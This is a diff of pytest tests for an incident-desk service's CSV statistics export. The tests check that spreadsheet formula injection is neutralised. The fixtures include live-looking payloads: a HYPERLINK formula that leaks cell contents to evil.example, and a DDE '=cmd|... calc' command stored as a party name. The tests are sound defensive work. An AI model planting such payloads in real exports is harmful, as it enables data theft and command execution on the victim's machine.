@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import date, datetime, timedelta, timezone
 
 import pytest
@@ -272,3 +273,43 @@ async def test_stats_api_period_party_and_csv(desk):
     assert r.status_code == 422 and "结束日期不能早于开始日期" in r.text
     r = await desk.http.get("/api/stats", params={"party": "nowhere"}, headers=desk.auth("super"))
     assert r.status_code == 422 and "未知的责任单位" in r.text
+
+
+# --- CSV formula injection: what people typed never runs as a formula in Excel --------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1",
+           "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+
+
+async def test_formulas_typed_into_titles_party_names_and_reasons_are_neutralised_in_both_exports(desk):
+    from desk.models import Party
+
+    with session_scope(desk.database_url) as s:
+        s.add(Party(code="evil", name='=cmd|" /C calc"!A0', kind="department"))
+        s.commit()
+        for title in HOSTILE:
+            add_incident(s, party="bazhou", level="IV", detected_at=shanghai(2026, 2, 10, 8), title=title,
+                         milestones={"acknowledge": "waived"})
+        add_incident(s, party="evil", level="IV", detected_at=shanghai(2026, 2, 11, 8), title="正常标题",
+                     milestones={"acknowledge": ("met", 0.5)})
+    params = {"from": "2026-02-01", "to": "2026-02-28"}
+
+    r = await desk.http.get("/api/stats.csv", params={**params, "detail": "true"}, headers=desk.auth("super"))
+    rows = parse_csv(r.content.decode("utf-8"))
+    titles = [row[1] for row in rows[1:]]
+    assert sorted(titles) == sorted(["'" + t for t in HOSTILE] + ["正常标题"])
+    assert "'=cmd|\" /C calc\"!A0" in [row[2] for row in rows[1:]]  # the party's name
+    assert {row[12] for row in rows[1:] if row[9] == "已豁免"} == {"事件已由上级统一发布"}  # plain text untouched
+
+    r = await desk.http.get("/api/stats.csv", params=params, headers=desk.auth("super"))
+    rows = parse_csv(r.content.decode("utf-8"))
+    evil = [row for row in rows if row[1:2] == ["evil"]]
+    assert evil and all(row[0] == "'=cmd|\" /C calc\"!A0" for row in evil)
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in stats.FORMULA_START and not re.fullmatch(r"-?\d+(\.\d+)?", c)], \
+        "a cell of the summary starts like a formula"
+
+
+def test_numbers_and_ordinary_text_are_left_as_they_are():
+    assert [stats.safe_cell(v) for v in (3, 1.5, "-0.50", "-12", "", "巴州区", "a=b", " =1")] == \
+        [3, 1.5, "-0.50", "-12", "", "巴州区", "a=b", " =1"]
